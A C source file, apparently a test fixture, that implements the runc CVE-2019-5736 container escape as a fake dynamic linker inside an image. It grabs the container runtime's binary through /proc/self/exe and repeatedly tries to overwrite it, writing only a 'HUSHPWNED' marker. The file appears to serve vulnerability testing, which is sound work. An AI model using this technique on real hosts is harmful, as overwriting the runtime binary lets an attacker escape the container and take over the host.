/* The runc CVE-2019-5736 attack, as a RUN step would make it. Installed in the image as
 * /lib64/ld-linux-x86-64.so.2, it is the "dynamic linker" the kernel starts when the RUN
 * executes a `#!/proc/self/exe` script: /proc/self/exe is then whatever binary the process ran
 * before (the container runtime's, if it exposes it). It keeps a descriptor to that binary,
 * hands it to a process that runs something else (so the binary is no longer busy), and that
 * process tries to overwrite it for ten seconds, while the first one stays as a shell.
 * Freestanding: started as an interpreter, libc's startup code would not find itself. */
#define SYS_write 1
#define SYS_open 2
#define SYS_dup2 33
#define SYS_fork 57
#define SYS_execve 59
#define SYS_exit 60
#define SYS_readlink 89
#define SYS_setsid 112
#define O_PATH 010000000

static long sys3(long n, long a, long b, long c) {
    long r;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}

static long len(const char *s) { long n = 0; while (s[n]) n++; return n; }
static void say(const char *s) { sys3(SYS_write, 1, (long)s, len(s)); }

__attribute__((force_align_arg_pointer)) void _start(void) {
    char exe[256];
    long n = sys3(SYS_readlink, (long)"/proc/self/exe", (long)exe, sizeof exe - 1);
    exe[n > 0 ? n : 0] = 0;
    say("evil-interp: exe=");
    say(exe);
    say("\n");
    long fd = sys3(SYS_open, (long)"/proc/self/exe", O_PATH, 0);
    if (fd >= 0) sys3(SYS_dup2, fd, 7, 0);
    if (sys3(SYS_fork, 0, 0, 0) == 0) {
        sys3(SYS_setsid, 0, 0, 0);
        char *argv[] = {"sh", "-c",
            "i=0; while [ $i -lt 100 ]; do "
            "(printf HUSHPWNED 1<>/proc/self/fd/7) 2>/dev/null && exit 0; "
            "sleep 0.1; i=$((i+1)); done", 0};
        char *envp[] = {"PATH=/bin", 0};
        sys3(SYS_execve, (long)"/bin/sh", (long)argv, (long)envp);
        sys3(SYS_exit, 1, 0, 0);
    }
    /* Stay, as the container's first process, without running the binary any more. */
    char *argv[] = {"sh", "-c", "echo attack-ran; exec sleep 4711", 0};
    char *envp[] = {"PATH=/bin", 0};
    sys3(SYS_execve, (long)"/bin/sh", (long)argv, (long)envp);
    sys3(SYS_exit, 1, 0, 0);
}
